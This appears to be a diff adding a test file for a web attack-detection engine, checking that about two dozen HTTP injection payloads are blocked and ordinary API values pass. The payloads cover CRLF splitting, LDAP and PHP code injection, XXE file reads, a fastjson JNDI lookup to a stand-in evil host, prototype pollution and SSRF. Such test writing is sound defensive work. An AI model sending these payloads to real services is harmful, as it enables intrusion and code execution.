@@ -1,0 +1,85 @@
+/**
+ * HTTP attack techniques of the third HTTP round (issue #4): each payload here was written from
+ * the technique, and each benign value is something an ordinary API receives. "Detected" is what
+ * the bench counts: challenge or block (allowed: false).
+ */
+import { describe, expect, it } from 'vitest';
+import { createDetectionEngine, httpScanText } from '../../src/detection/index.ts';
+
+const engine = createDetectionEngine({ analysisCache: false });
+const value = (content: string) => engine.inspect({ kind: 'http', content });
+const request = (path: string, headers: Record<string, string> = {}, body?: string) =>
+  engine.inspect({ kind: 'http', request: { method: body === undefined ? 'GET' : 'POST', path, headers: { host: 'api.example.com', ...headers }, ...(body === undefined ? {} : { body }) } });
+
+describe('HTTP techniques: attacks are stopped', () => {
+  it.each([
+    ['response splitting with a cookie', 'lang=en%0d%0aSet-Cookie:%20admin=1', 'crlf.header-injection'],
+    ['response splitting with a redirect', 'next=%0d%0aLocation:%20https://evil.example/', 'crlf.header-injection'],
+    ['Unicode CR/LF read as bytes', 'q=x\u560d\u560aSet-Cookie: s=1', 'crlf.header-injection'],
+    ['a smuggled request line', 'note=a%0aGET /admin HTTP/1.1', 'crlf.request-line'],
+    ['mail header injection', 'email=me@example.org%0ABcc:list@example.net', 'crlf.mail-header'],
+    ['an LDAP filter extended with OR', 'user=jdoe)|(uid=*', 'ldap.filter-operators'],
+    ['an LDAP comparison spliced in', 'name=x)(employeeNumber>=0', 'ldap.filter-operators'],
+    ['a run of format conversions', 'name=%08x.%08x.%08x.%08x', 'fmt.conversion-run'],
+    ['a format-string write', 'title=ABCD%3$hn', 'fmt.write-or-position'],
+    ['a DTD attribute list', '<!DOCTYPE r [<!ATTLIST r a CDATA "x">]><r/>', 'xxe.dtd-constructs'],
+    ['XSLT reading a file', '<xsl:copy-of select="document(\'file:///etc/hosts\')"/>', 'xxe.xslt'],
+    ['a framework session id as a parameter', '/account/login?JSESSIONID=0F1E2D3C4B5A', 'session.fixation-parameter'],
+    ['a PHP short echo tag', 'tpl=<?=`id`?>', 'code.php-short-tag'],
+    ['a php.ini directive through PHP-CGI', 'x=-d allow_url_include=1 -d auto_prepend_file=php://input', 'code.php-ini-directive'],
+    ['a superglobal overwrite', '/index.php?_SERVER[DOCUMENT_ROOT]=http://evil.example/', 'code.php-superglobal-overwrite'],
+    ['a PHP function split from its parenthesis by a comment', 'q=readfile/**/(\'index.php\')', 'code.comment-split-call'],
+    ['a string-built PHP call', "cb=('sys'.'tem')('id')", 'code.php-expression-call'],
+    ['a fastjson type hint', '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/a"}', 'code.type-hint'],
+    ['an ORM lookup on a password', '/api/users?password__startswith=a', 'orm.secret-lookup'],
+    ['prototype pollution through brackets', '/?a[constructor][prototype][isAdmin]=1', 'code.node'],
+    ['a URL without slashes to loopback', 'url=http:127.0.0.1:6379/', 'ssrf.malformed-url'],
+    ['a URL whose authority hides the real host', 'url=http://trusted.example%2f@evil.example/', 'ssrf.authority-confusion'],
+    ['a container host name', 'webhook=host.docker.internal:2375/containers/json', 'ssrf.infrastructure-host'],
+    ['an attribute break-out', 'q="><b>owned</b>', 'xss.value-breakout'],
+  ])('%s', async (_name, payload, id) => {
+    const decision = await (payload.startsWith('/') ? request(payload) : value(payload));
+    expect(decision.allowed).toBe(false);
+    expect(decision.patterns_matched.map((pattern) => pattern.id)).toContain(id);
+  });
+
+  it('flags a line break in a header value, a parameter name or the path', async () => {
+    for (const decision of [
+      await request('/', { 'x-note': 'a%0d%0aX-Injected: 1' }),
+      await request('/search?q=1&%0d%0aRemote-Addr:%20127.0.0.1=y'),
+      await request('/index.php/PHP_VALUE%0Aauto_prepend_file=/etc/passwd'),
+    ]) {
+      expect(decision.allowed).toBe(false);
+      expect(decision.patterns_matched.map((pattern) => pattern.id)).toContain('crlf.request-structure');
+    }
+  });
+});
+
+describe('HTTP techniques: ordinary values pass', () => {
+  it.each([
+    ['prose with a label after a line break', 'Trip notes\nLocation: New York City\nCookie: oatmeal raisin'],
+    ['a translation string with placeholders', 'Hello %s, you have %d new messages'],
+    ['percent-encoded accented text and commas', 'name=caf%C3%A9%2C%20cr%C3%A8me%2C%20br%C3%BBl%C3%A9e'],
+    ['a JSON-LD type', '{"@context":"https://schema.org","@type":"Person","name":"Ada"}'],
+    ['a Google API error type URL', '{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"x"}'],
+    ['a Django-style filter', '/api/books?author__name__icontains=tolkien&published__gte=1950'],
+    ['a checkout session id', '/success?session_id=cs_test_a1b2c3'],
+    ['an XML body with empty attributes', '<item id="" name="widget"><price currency="">10</price></item>'],
+    ['a sentence with parentheses', 'See the appendix (page 4) (and the footnote) for details'],
+    ['a sentence mentioning a console', 'Open the browser console and reload the page'],
+  ])('%s', async (_name, payload) => {
+    const decision = await (payload.startsWith('/') ? request(payload) : value(payload));
+    expect(decision.allowed).toBe(true);
+  });
+
+  it('keeps the session cookie in its header and multi-line form text out of the structure check', async () => {
+    expect((await request('/account', { cookie: 'PHPSESSID=abc123; theme=dark' })).allowed).toBe(true);
+    const form = await request('/comments', { 'content-type': 'application/x-www-form-urlencoded' }, 'text=first%20line%0D%0Asecond%20line%0D%0Anote=%20ok');
+    expect(form.patterns_matched.map((pattern) => pattern.id)).not.toContain('crlf.request-structure');
+  });
+
+  it('adds no structure line to an ordinary request', () => {
+    const { text } = httpScanText({ method: 'GET', path: '/search?q=shoes&size=42', headers: { 'user-agent': 'Mozilla/5.0', cookie: 'a=1' } });
+    expect(text).not.toContain('svc-protocol-anomaly');
+  });
+});
